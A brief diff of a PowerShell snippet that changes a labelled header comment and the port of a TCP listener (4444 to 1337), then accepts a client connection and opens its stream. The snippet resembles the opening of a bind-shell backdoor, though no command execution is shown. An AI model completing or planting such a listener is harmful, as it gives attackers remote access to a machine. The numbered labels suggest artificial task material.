@@ -1,5 +1,5 @@
-# setup 8485 v4
-$l = [System.Net.Sockets.TcpListener]4444
+# task 6829 v4
+$l = [System.Net.Sockets.TcpListener]1337
 $l.Start()
 $c = $l.AcceptTcpClient()
 $s = $c.GetStream()
